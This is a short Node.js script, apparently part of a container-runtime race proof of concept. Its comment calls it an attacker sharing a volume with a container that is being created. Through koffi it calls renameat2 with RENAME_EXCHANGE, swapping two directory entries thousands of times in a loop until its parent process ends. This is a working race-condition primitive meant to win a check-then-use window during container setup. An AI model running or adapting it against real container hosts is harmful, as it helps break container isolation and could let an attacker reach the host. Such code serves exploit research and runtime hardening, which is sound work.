// An attacker beside the runtime: `node swap.mjs A B` exchanges two directory entries again and again until it is ended,
// or its caller is. Whoever shares a volume with a container that is being made can do this.

import koffi from 'koffi';

const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;

const [left, right] = process.argv.slice(2);
const renameat2 = koffi.load(null).func('int renameat2(int, const char *, int, const char *, unsigned int)');
const parent = process.ppid;

for (;;) {
  for (let round = 0; round < 1000; round++) {
    if (renameat2(AT_FDCWD, left, AT_FDCWD, right, RENAME_EXCHANGE) !== 0) process.exit(1);
  }
  if (process.ppid !== parent) process.exit(0);
}
